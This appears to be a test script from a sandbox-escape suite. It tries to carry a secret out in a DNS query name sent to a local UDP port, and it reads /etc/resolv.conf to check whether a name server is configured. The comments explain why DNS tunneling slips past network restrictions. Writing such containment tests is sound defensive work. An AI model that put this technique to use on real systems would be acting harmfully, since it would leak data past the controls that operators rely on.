# Carries a secret away in the name of a host that it asks a name server for.
# Why: names are resolved even where nothing else is allowed, and each question reaches whoever owns the domain.
# needs: any
# at-none: escapes
import socket
import struct
from attempt import facts, run, steal

NAME = b''.join(bytes([len(part)]) + part for part in [b'stolen-0123456789abcdef', b'example', b'org', b''])


def ask():
    query = struct.pack('>6H', 0x1234, 0x0100, 1, 0, 0, 0) + NAME + struct.pack('>2H', 16, 1)
    client = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    client.settimeout(0.5)
    client.sendto(query, ('127.0.0.1', facts['udpPort']))
    steal(client.recv(1000), 'the answer of the name server')


def servers():
    with open('/etc/resolv.conf') as file:
        if 'nameserver' in file.read():
            raise OSError('a name server is known, but not reached')


run(ask, servers)
